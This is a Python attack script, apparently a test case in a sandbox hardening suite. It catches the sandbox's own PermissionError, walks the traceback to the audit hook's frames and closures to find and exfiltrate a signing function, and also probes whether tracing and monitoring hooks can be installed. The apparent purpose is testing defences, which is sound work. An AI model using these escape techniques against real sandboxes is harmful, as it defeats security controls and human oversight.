# @include _visible_only.py
# @include _deliver.py
# Attack: catch the seal's own PermissionError and walk its traceback to the
# audit hook's frame (its locals and closure), directly, through inspect, and
# through the traceback module with capture_locals; then look for the signing
# function through everything reachable from there. Also try sys.monitoring
# (Python 3.12+) and sys.settrace/setprofile in this thread.
import inspect
import sys
import traceback

_report = {}


def _hook_frames():
    try:
        sys._current_frames()
    except PermissionError as exc:
        tb = exc.__traceback__
    else:
        return []
    frames = []
    for way in ("direct", "inspect", "walk_tb"):
        try:
            if way == "direct":
                t = tb
                while t is not None:
                    frames.append(t.tb_frame)
                    t = t.tb_next
            elif way == "inspect":
                frames.extend(info.frame for info in inspect.getinnerframes(tb))
            else:
                frames.extend(f for f, _ in traceback.walk_tb(tb))
            _report[way] = "allowed"
        except Exception as exc:  # noqa: BLE001
            _report[way] = type(exc).__name__
    summary = traceback.StackSummary.extract(traceback.walk_tb(tb), capture_locals=True)
    _report["capture_locals"] = sum(len(f.locals or {}) for f in summary)
    return frames


def _sign_from(frames):
    seen = set()
    todo = []
    for frame in frames:
        todo.extend(frame.f_locals.values())
    while todo and len(seen) < 20000:
        value = todo.pop()
        if id(value) in seen:
            continue
        seen.add(id(value))
        if getattr(value, "__name__", "") == "sign" and callable(value):
            return value
        closure = getattr(value, "__closure__", None)
        if closure:
            for cell in closure:
                try:
                    todo.append(cell.cell_contents)
                except ValueError:
                    pass
        if isinstance(value, (dict, list, tuple, set, frozenset)):
            todo.extend(list(value.values() if isinstance(value, dict) else value)[:1000])
    return None


def _tracing():
    for name, call in (
        ("settrace", lambda: sys.settrace(lambda *a: None)),
        ("setprofile", lambda: sys.setprofile(lambda *a: None)),
    ):
        try:
            call()
            _report[name] = "allowed"
        except Exception as exc:  # noqa: BLE001
            _report[name] = type(exc).__name__
        finally:
            try:
                sys.settrace(None)
                sys.setprofile(None)
            except Exception:  # noqa: BLE001, S110
                pass
    monitoring = getattr(sys, "monitoring", None)
    if monitoring is None:
        _report["monitoring"] = "absent (Python < 3.12)"
        return
    try:
        monitoring.use_tool_id(3, "corpus")
        monitoring.register_callback(3, monitoring.events.PY_START, lambda code, offset: None)
        monitoring.set_events(3, monitoring.events.PY_START)
        _report["monitoring"] = "allowed"
    except Exception as exc:  # noqa: BLE001
        _report["monitoring"] = type(exc).__name__
    finally:
        try:
            monitoring.set_events(3, 0)
            monitoring.free_tool_id(3)
        except Exception:  # noqa: BLE001, S110
            pass


_sign = None
try:
    _sign = _sign_from(_hook_frames())
except Exception as exc:  # noqa: BLE001
    _report["error"] = type(exc).__name__
_tracing()
print(_report, "signing function found:", _sign is not None)
if _sign is not None:
    deliver_sign(_sign)
